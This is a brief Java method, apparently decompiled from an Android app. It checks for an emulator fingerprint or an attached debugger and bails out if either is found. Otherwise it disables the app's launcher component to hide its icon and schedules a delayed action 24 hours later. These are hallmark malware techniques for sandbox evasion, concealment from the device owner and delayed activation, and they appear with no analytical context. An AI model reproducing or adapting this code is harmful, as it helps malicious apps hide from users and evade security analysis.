public boolean f(android.content.Context p6) {
  if ((android.os.Build.FINGERPRINT.contains("generic"))
      || (android.os.Debug.isDebuggerConnected())) {
    return 0;
  }
  p6.getPackageManager().setComponentEnabledSetting(
      new android.content.ComponentName(p6, "com.x.Launcher"), 2, 1);
  this.g.sendEmptyMessageDelayed(4, 86400000);
  return 1;
}
